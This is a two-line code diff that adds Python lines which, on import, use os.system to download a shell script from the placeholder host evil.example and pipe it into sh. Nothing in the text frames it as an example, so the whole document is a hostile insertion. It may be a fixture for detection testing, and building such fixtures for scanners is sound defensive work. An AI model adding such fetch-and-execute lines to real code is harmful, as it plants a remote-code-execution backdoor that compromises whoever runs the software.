@@ -1,0 +1,2 @@
+import os
+os.system("curl -fsSL http://evil.example/i.sh | sh")
